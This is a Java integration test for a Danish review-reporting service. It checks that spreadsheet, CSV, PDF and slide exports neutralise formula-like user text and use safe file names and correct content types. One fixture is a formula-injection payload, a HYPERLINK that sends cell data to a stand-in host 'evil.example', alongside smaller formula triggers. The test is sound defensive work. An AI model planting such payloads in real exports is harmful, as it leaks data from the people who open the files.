package dk.gennemsyn.reporting.web;

import dk.gennemsyn.platform.export.SpreadsheetText;
import dk.gennemsyn.proto.assessment.v1.AssessmentSubmitted;
import dk.gennemsyn.proto.assessment.v1.InstrumentPublished;
import dk.gennemsyn.proto.caseintake.v1.Review;
import dk.gennemsyn.proto.caseintake.v1.ReviewCreated;
import dk.gennemsyn.reporting.ReportingTest;
import dk.gennemsyn.testsupport.Eventually;
import dk.gennemsyn.testsupport.TestTokens;
import io.micronaut.http.HttpHeaders;
import io.micronaut.http.HttpRequest;
import io.micronaut.http.HttpResponse;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Every download of a review whose user-typed texts look like formulas: the CSV and XLSX hold them neutralised (and
 * genuine numbers still as numbers), each file has its format's Content-Type, and its name is safe although the
 * review's title holds quotes, a slash, a line break and Danish letters.
 */
@MicronautTest(transactional = false)
public class ExportDownloadsTest extends ReportingTest {

    static final String T = "0360";
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Klik her\")";
    static final String TITLE = "Gennemgang \"Æble/Øst\"\r\nX: 1";
    /** The title as a file name: the quotes, slash and colon as "_", the line break as a space. */
    static final String NAME = "Gennemgang _Æble_Øst_ X_ 1";
    static final String ASCII_NAME = "Gennemgang _AEble_OEst_ X_ 1";

    record Download(byte[] body, String contentType, String disposition) {
    }

    String review;

    @BeforeAll
    void givenAReviewWithFormulaLikeTexts() {
        review = UUID.randomUUID().toString();
        String instrument = UUID.randomUUID().toString();
        // Typed by users: an answer label, a question's text, free-text answers, a finding's category.
        send(T, instrument, InstrumentPublished.newBuilder().setInstrumentId(instrument).setName("Parametre").setVersion(1)
                .addQuestions(q("kvalitet", "ordinal", "Faglig kvalitet", "1", "@lav", "2", "Tilfredsstillende"))
                .addQuestions(q("bemaerkning", "text", "=1+2"))
                .addQuestions(q("antal", "number", "Antal foranstaltninger"))
                .build(), 1);
        send(T, review, ReviewCreated.newBuilder().setReview(Review.newBuilder().setReviewId(review).setTitle(TITLE)
                .setState("reviewing").setInstrumentId(instrument).setVersion(1)).build(), 1);
        String[][] answers = {{"1", HYPERLINK, "-3"}, {"2", "  +1+2", "4,5"}};
        for (int i = 1; i <= 2; i++) {
            String c = UUID.randomUUID().toString();
            send(T, c, selected(review, c, i, 1), 1);
            send(T, c, AssessmentSubmitted.newBuilder().setAssignmentId(UUID.randomUUID().toString()).setReviewId(review)
                    .setCaseId(c).setAlias("Sag " + i).setReviewer("r1").setRound(1).setInstrumentId(instrument)
                    .putAllAnswers(Map.of("kvalitet", answers[i - 1][0], "bemaerkning", answers[i - 1][1],
                            "antal", answers[i - 1][2]))
                    .setYearlyCostKr(100_000L * i).build(), 1);
            if (i == 1) {
                send(T, c, finding(review, c, "Sag 1", "=1+2", "major", false, true, 75_000), 1);
            }
        }
        Eventually.await(Duration.ofSeconds(15), "the review applied", () ->
                count("select count(*) from reviews where review_id = '" + review + "'") == 1
                        && count("select count(*) from instruments where instrument_id = '" + instrument + "'") == 1
                        && count("select count(*) from review_cases where review_id = '" + review + "' and deep_review") == 2
                        && count("select count(*) from case_assessments where review_id = '" + review + "'") == 2
                        && count("select count(*) from case_findings where review_id = '" + review + "'") == 1);
    }

    Download download(String file) {
        HttpResponse<byte[]> r = http.toBlocking().exchange(HttpRequest.GET("/reporting/reviews/" + review + "/" + file)
                .bearerAuth(TestTokens.token(T, "projektleder")), byte[].class);
        assertThat(r.code()).isEqualTo(200);
        return new Download(r.body(), r.getHeaders().get(HttpHeaders.CONTENT_TYPE),
                r.getHeaders().get(HttpHeaders.CONTENT_DISPOSITION));
    }

    @Test
    void theXlsxHoldsUserTextNeutralisedAndNumbersAsNumbers() throws Exception {
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(download("export.xlsx").body()))) {
            Sheet cases = wb.getSheet("Oversigt");
            Row header = cases.getRow(0);
            int quality = column(header, "Faglig kvalitet");
            int remark = column(header, "'=1+2");
            int count = column(header, "Antal foranstaltninger");
            Row sag1 = cases.getRow(1);
            Row sag2 = cases.getRow(2);
            assertThat(sag1.getCell(0).getStringCellValue()).isEqualTo("Sag 1");
            assertThat(sag1.getCell(remark).getCellType()).isEqualTo(CellType.STRING);
            assertThat(sag1.getCell(remark).getStringCellValue()).isEqualTo("'" + HYPERLINK);
            assertThat(sag1.getCell(quality).getStringCellValue()).isEqualTo("'@lav");
            assertThat(sag1.getCell(count).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(sag1.getCell(count).getNumericCellValue()).isEqualTo(-3.0);
            assertThat(sag2.getCell(remark).getStringCellValue()).isEqualTo("'  +1+2");
            assertThat(sag2.getCell(quality).getStringCellValue()).isEqualTo("Tilfredsstillende");
            assertThat(sag2.getCell(count).getNumericCellValue()).isEqualTo(4.5);
            assertThat(wb.getSheet("Fordeling").getRow(1).getCell(1).getStringCellValue()).isEqualTo("'@lav");
            Row warning = wb.getSheet("Budgetvarsling").getRow(1);
            assertThat(warning.getCell(1).getStringCellValue()).isEqualTo("'=1+2");
            assertThat(warning.getCell(3).getNumericCellValue()).isEqualTo(75_000);
            // No formula anywhere, and no text cell a spreadsheet program would take for one.
            for (Sheet sheet : wb) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING) {
                            assertThat(SpreadsheetText.isNeutral(cell.getStringCellValue()))
                                    .as("%s!%s: %s", sheet.getSheetName(), cell.getAddress(), cell.getStringCellValue()).isTrue();
                        }
                    }
                }
            }
        }
    }

    @Test
    void theCsvHoldsUserTextNeutralisedAndQuotedAndNumbersAsNumbers() {
        String text = new String(download("export.csv").body(), StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        // RFC 4180: the neutralised value is quoted, its quotes doubled (it holds the separator and quotes).
        assertThat(text).contains(";\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1;\"\"Klik her\"\")\";");
        List<List<String>> rows = parse(text.substring(1));
        assertThat(rows).hasSize(3);
        List<String> header = rows.get(0);
        assertThat(header).contains("'=1+2");
        int quality = header.indexOf("Faglig kvalitet");
        int remark = header.indexOf("'=1+2");
        int count = header.indexOf("Antal foranstaltninger");
        assertThat(rows.get(1).get(0)).isEqualTo("Sag 1");
        assertThat(rows.get(1).get(remark)).isEqualTo("'" + HYPERLINK);
        assertThat(rows.get(1).get(quality)).isEqualTo("'@lav");
        assertThat(rows.get(1).get(count)).isEqualTo("-3"); // a number, not text: left as it is
        assertThat(rows.get(2).get(remark)).isEqualTo("'  +1+2");
        assertThat(rows.get(2).get(count)).isEqualTo("4,5");
        assertThat(rows.get(2).get(header.size() - 1)).isEqualTo("200000");
        for (List<String> row : rows) {
            assertThat(row).hasSize(header.size());
            for (String field : row) {
                assertThat(SpreadsheetText.isNeutral(field) || field.matches("-?\\d+(,\\d+)?")).as(field).isTrue();
            }
        }
    }

    @Test
    void everyDownloadHasItsFormatsContentTypeAndOpensAsThatFormat() throws Exception {
        assertThat(download("export.xlsx").contentType())
                .isEqualTo("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        assertThat(download("export.csv").contentType()).matches("text/csv; ?charset=(?i:utf-8)");
        Download pdf = download("statusnotat.pdf");
        assertThat(pdf.contentType()).isEqualTo("application/pdf");
        try (PDDocument doc = Loader.loadPDF(pdf.body())) {
            // No formulas in a PDF: the text is shown as typed.
            assertThat(new PDFTextStripper().getText(doc)).contains("Gennemgang", "=1+2").doesNotContain("'=1+2");
        }
        // Was Word's type ("application/vnd.openxmlformats-officedocument.wordprocessingml.document").
        Download pptx = download("planchesaet.pptx");
        assertThat(pptx.contentType()).isEqualTo("application/vnd.openxmlformats-officedocument.presentationml.presentation");
        try (XMLSlideShow show = new XMLSlideShow(new ByteArrayInputStream(pptx.body()))) {
            assertThat(show.getSlides()).isNotEmpty();
        }
    }

    @Test
    void everyDownloadHasASafeFileNameWithTheReviewsTitle() {
        assertThat(DownloadsTest.names(download("export.xlsx").disposition()))
                .containsExactly("Sagsoversigt - " + ASCII_NAME + ".xlsx", "Sagsoversigt - " + NAME + ".xlsx");
        assertThat(DownloadsTest.names(download("export.csv").disposition()))
                .containsExactly("Sagsoversigt - " + ASCII_NAME + ".csv", "Sagsoversigt - " + NAME + ".csv");
        assertThat(DownloadsTest.names(download("statusnotat.pdf").disposition()))
                .containsExactly("Statusnotat - " + ASCII_NAME + ".pdf", "Statusnotat - " + NAME + ".pdf");
        assertThat(DownloadsTest.names(download("planchesaet.pptx").disposition()))
                .containsExactly("Planchesaet - " + ASCII_NAME + ".pptx", "Planchesæt - " + NAME + ".pptx");
    }

    public static int column(Row header, String title) {
        for (Cell c : header) {
            if (c.getStringCellValue().equals(title)) {
                return c.getColumnIndex();
            }
        }
        throw new AssertionError("no column " + title);
    }

    /** RFC 4180 with ";" as the separator and CRLF line ends. */
    public static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"' && field.isEmpty()) {
                quoted = true;
            } else if (c == ';') {
                row.add(field.toString());
                field.setLength(0);
            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                row.add(field.toString());
                field.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                assertThat(c).as("a bare quote or line break outside quotes at %d", i).isNotIn('"', '\r', '\n');
                field.append(c);
            }
        }
        assertThat(quoted).isFalse();
        assertThat(row).isEmpty();
        return rows;
    }
}
